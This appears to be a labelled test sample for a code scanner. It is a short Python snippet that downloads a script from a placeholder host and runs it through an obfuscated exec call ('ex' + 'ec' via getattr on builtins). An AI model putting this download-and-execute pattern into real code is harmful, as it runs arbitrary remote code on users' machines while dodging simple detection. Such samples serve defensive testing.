# must: builtins-access, download-exec
import builtins, requests
getattr(builtins, "ex" + "ec")(requests.get("https://cdn.invalid/p.py").text)
